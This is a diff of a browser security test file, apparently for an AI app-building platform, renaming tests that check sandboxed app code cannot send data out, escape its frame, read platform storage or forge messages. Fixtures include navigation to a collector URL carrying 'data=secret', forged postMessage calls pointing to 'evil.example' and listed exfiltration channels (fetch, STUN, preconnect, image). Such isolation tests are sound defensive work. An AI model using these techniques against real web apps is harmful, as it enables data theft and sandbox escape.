@@ -106,7 +106,7 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
   };
   afterEach(() => collector[Symbol.asyncDispose]());
 
-  it('would carry data out by all these ways if nothing held it back', async () => {
+  it('could send data elsewhere in all these ways without protection', async () => {
     collector.page = hostileCode(targets);
     const page = await browser.newPage();
     await page.goto(`${collector.url}/page`, { waitUntil: 'commit' });
@@ -119,7 +119,7 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
     await page.close();
   });
 
-  it("gets at nothing of the platform or of another app from the builder's frame, and carries nothing out", async () => {
+  it("reads nothing of the platform or of another app from the builder's frame, and sends no data elsewhere", async () => {
     const page = await openAsAda(browser, host);
     const address = `${host.url}/build/app/${appId}?panel=preview`;
     const started = page.waitForResponse(/\/__buildai\/bundle\//);
@@ -133,7 +133,7 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
     await page.close();
   });
 
-  it('gets at nothing and carries nothing out from its published page', async () => {
+  it('reads nothing and sends no data elsewhere from its published page', async () => {
     const page = await browser.newPage();
     await page.goto(await host.publish(appId));
     // Before anything is asked of the page: to the browser that is as if a person had done it.
@@ -143,7 +143,7 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
     await page.close();
   });
 
-  it('gets at nothing and carries nothing out in Firefox', async function () {
+  it('reads nothing and sends no data elsewhere in Firefox', async function () {
     const firefox = findFirefox();
     if (!firefox) return this.skip();
     await using unprotected = await startCollector();
@@ -155,7 +155,7 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
     expect([...unprotected.arrived]).to.include.members(['fetch', 'stun', 'preconnect', 'image']);
   });
 
-  it('lets a person follow a link to another site once they have seen where it leads', async () => {
+  it('lets a person follow a link to another site after showing where it leads', async () => {
     const { app } = await host.newApp(
       filesOf({
         'pages/Home.jsx': `export default function Home() {
@@ -194,7 +194,7 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
       form.submit();`,
   };
   for (const [way, leave] of Object.entries(departures)) {
-    it(`cannot take the builder's frame to another site ${way}`, async () => {
+    it(`cannot navigate the builder's frame to another site ${way}`, async () => {
       const { app } = await host.newApp(
         filesOf({
           'pages/Home.jsx': `setTimeout(() => { ${leave(`${collector.url}/left?data=secret`)} }, 1500);
@@ -210,7 +210,7 @@ export default function Home() { return <h1>Leaving</h1>; }`,
     });
   }
 
-  it('has a storage of its own, which no other app and no platform sees', async () => {
+  it('has its own storage, separate from other apps and the platform', async () => {
     const page = await openAsAda(browser, host);
     const onPlatform = await page.evaluate(() => Object.keys(localStorage));
     expect(onPlatform).to.not.deep.equal([]);
@@ -222,7 +222,7 @@ export default function Home() { return <h1>Leaving</h1>; }`,
     await page.close();
   });
 
-  it('is not believed when it speaks for another window, or to another', async () => {
+  it('cannot forge messages from or to another window', async () => {
     const talking = filesOf({
       'pages/Home.jsx': `parent.postMessage({ channel: 'buildai/app', type: 'navigated', path: 'https://evil.example/' }, '*');
 parent.postMessage({ channel: 'buildai/app', type: 'navigated', path: '//evil.example/' }, '*');
@@ -243,7 +243,7 @@ export default function Home() { return <h1>Talking</h1>; }`,
     await page.close();
   });
 
-  it('is shown in a frame by nobody but the builder', async () => {
+  it('can be framed by the builder only', async () => {
     const published = await host.publish(appId);
     collector.page = `for (const address of ['${published}', '${await host.previewOrigin(appId)}']) {
       document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
